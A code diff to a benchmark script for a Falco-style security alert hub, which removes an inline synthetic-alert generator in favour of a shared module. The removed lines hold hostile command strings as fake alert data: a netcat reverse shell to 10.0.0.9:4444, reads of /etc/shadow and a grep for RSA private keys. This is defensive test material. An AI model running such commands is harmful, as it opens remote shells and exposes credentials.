@@ -1,6 +1,6 @@
 /**
  * `npm run bench:hub-decode`: CPU time per alert of the hub's ingest thread on `POST /v1/alerts`
- * bodies shaped like bench:store's (batches of 1000 synthetic Falco alerts, `JSON.stringify` of their
+ * bodies of bench:store's alerts (bench/synthetic-alerts.ts: batches of 1000, `JSON.stringify` of their
  * wire form, ~950 bytes each), measured in a worker thread with the ingest thread's heap limits:
  *
  *   - general: the general path, `decodeAlertBatch` (JSON.parse, alertFromWire, encodeAlert) then
@@ -26,125 +26,12 @@ import { cpus, loadavg } from 'node:os';
 import { decodeAlertBatch, decodeAlertParams } from '../src/hub/batch-decode.js';
 import { INGEST_YOUNG_GENERATION_MB } from '../src/hub/ingest-decoder.js';
 import { alertToWire } from '../src/hub/wire.js';
-import type { Priority } from '../src/engine/rules/index.js';
 import { rowParams } from '../src/store/sqlite/sql.js';
-import type { StoredAlert } from '../src/store/store.js';
-import { rng } from './synthetic-stream.js';
+import { makeAlerts } from './synthetic-alerts.js';
 
 const BATCHES = Number(process.env.VIGIL_BENCH_HUB_BATCHES ?? 40);
 const ROUNDS = Number(process.env.VIGIL_BENCH_HUB_ROUNDS ?? 9);
 const BATCH = 1000;
-
-// Alerts shaped like bench/store.ts's: the same fields, sizes and mix of syscall and audit alerts.
-const RULES: { name: string; priority: Priority; tags: string[]; audit: boolean; text: string }[] = [
-  {
-    name: 'Terminal shell in container',
-    priority: 'NOTICE',
-    tags: ['maturity_stable', 'container', 'shell', 'mitre_execution', 'T1059'],
-    audit: false,
-    text: 'A shell was spawned in a container with an attached terminal',
-  },
-  {
-    name: 'Read sensitive file untrusted',
-    priority: 'WARNING',
-    tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_credential_access', 'T1555'],
-    audit: false,
-    text: 'Sensitive file opened for reading by non-trusted program',
-  },
-  {
-    name: 'Contact K8S API Server From Container',
-    priority: 'NOTICE',
-    tags: ['maturity_stable', 'container', 'network', 'k8s', 'mitre_discovery', 'T1565'],
-    audit: false,
-    text: 'Unexpected connection to K8s API Server from container',
-  },
-  {
-    name: 'Attach/Exec Pod',
-    priority: 'NOTICE',
-    tags: ['k8s'],
-    audit: true,
-    text: 'Attach/Exec to pod',
-  },
-];
-const WEIGHTS = [30, 20, 12, 8];
-const NAMESPACES = ['default', 'kube-system', 'payments', 'checkout', 'monitoring', 'ingress-nginx', 'data'];
-const IMAGES = ['nginx', 'redis', 'postgres', 'node', 'python', 'busybox', 'envoy', 'fluent-bit'];
-const COMMANDS = [
-  'bash -i',
-  'cat /etc/shadow',
-  'nc -e /bin/sh 10.0.0.9 4444',
-  'grep -r BEGIN RSA /home',
-  'curl -s https://10.96.0.1:443/api',
-  'tee -a /etc/hosts',
-];
-
-function makeAlerts(from: number, count: number): StoredAlert[] {
-  const r = rng(1_000_003 + from);
-  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
-  const total = WEIGHTS.reduce((a, b) => a + b, 0);
-  const out: StoredAlert[] = [];
-  for (let k = 0; k < count; k++) {
-    const i = from + k;
-    let x = r() * total;
-    const spec = RULES[WEIGHTS.findIndex((w) => (x -= w) < 0)] ?? RULES[0]!;
-    const host = `ip-10-0-${i % 3}-${10 + (i % 20)}.ec2.internal`;
-    const time = 1_732_000_000_000_000_000n + BigInt(i) * 3_024_000_000n + BigInt(Math.floor(r() * 1000));
-    const c = Math.floor(r() * 300);
-    const cid = (0x3ad7b26ded6dn + BigInt(c) * 7919n).toString(16).slice(0, 12);
-    const cname = `${IMAGES[c % IMAGES.length]}-${c}`;
-    const ns = NAMESPACES[c % NAMESPACES.length]!;
-    const user = r() < 0.7 ? 'root' : 'app';
-    let fields: Record<string, unknown>;
-    let output: string;
-    if (!spec.audit) {
-      const cmd = pick(COMMANDS);
-      const bin = cmd.split(' ')[0]!;
-      const inContainer = r() < 0.85;
-      fields = {
-        'evt.type': spec.tags.includes('network') ? 'connect' : 'openat',
-        'user.name': user,
-        'user.loginuid': -1,
-        'proc.cmdline': cmd,
-        'proc.pid': 1000 + Math.floor(r() * 60000),
-        'proc.exepath': `/usr/bin/${bin}`,
-        'proc.pname': r() < 0.5 ? 'runc' : 'containerd-shim',
-        'fd.name': spec.tags.includes('filesystem') ? '/etc/shadow' : null,
-        'container.id': inContainer ? cid : 'host',
-        'container.name': inContainer ? cname : 'host',
-        'container.image.repository': inContainer
-          ? `registry.example/${IMAGES[c % IMAGES.length]}:1.${c % 7}`
-          : null,
-        'k8s.ns.name': inContainer ? ns : null,
-        'k8s.pod.name': inContainer ? `${cname}-7d9f8b6c5-${(i % 97).toString(36)}x` : null,
-        'evt.rawtime': time,
-      };
-      output = `${spec.text} (evt_type=${String(fields['evt.type'])} user=${user} user_loginuid=-1 process=${bin} proc_exepath=/usr/bin/${bin} parent=${String(fields['proc.pname'])} command=${cmd} terminal=34816 container_id=${String(fields['container.id'])} container_name=${String(fields['container.name'])} k8s_ns=${inContainer ? ns : '<NA>'} k8s_pod_name=${String(fields['k8s.pod.name'] ?? '<NA>')})`;
-    } else {
-      fields = {
-        'ka.user.name': r() < 0.5 ? 'system:serviceaccount:ci:deployer' : 'alice@example.com',
-        'ka.verb': ['create', 'delete', 'get'][i % 3],
-        'ka.target.resource': 'pods',
-        'ka.target.namespace': ns,
-        'ka.target.name': `${cname}-7d9f8b6c5-${(i % 97).toString(36)}x`,
-        'ka.uri': `/api/v1/namespaces/${ns}/pods/${cname}/exec?command=sh`,
-        'ka.response.code': '101',
-      };
-      output = `${spec.text} (user=${String(fields['ka.user.name'])} pod=${String(fields['ka.target.name'])} ns=${ns} action=${String(fields['ka.uri'])})`;
-    }
-    out.push({
-      id: `${host}:b1:${i.toString().padStart(9, '0')}`,
-      rule: spec.name,
-      priority: spec.priority,
-      source: spec.audit ? 'k8s_audit' : 'syscall',
-      time,
-      output,
-      outputFields: fields,
-      tags: spec.tags,
-      hostname: host,
-    });
-  }
-  return out;
-}
 
 interface Figure {
   name: string;
@@ -170,7 +57,7 @@ function runInWorker(port: MessagePort): Figure[] {
   const bodies: Buffer[] = [];
   const pretty: Buffer[] = [];
   for (let k = 0; k < BATCHES; k++) {
-    const alerts = makeAlerts(k * BATCH, BATCH).map(alertToWire);
+    const alerts = makeAlerts(k * BATCH, BATCH, BATCHES * BATCH).map(alertToWire);
     bodies.push(Buffer.from(JSON.stringify({ alerts })));
     if (k < BATCHES / 4) pretty.push(Buffer.from(JSON.stringify({ alerts }, null, 1)));
   }
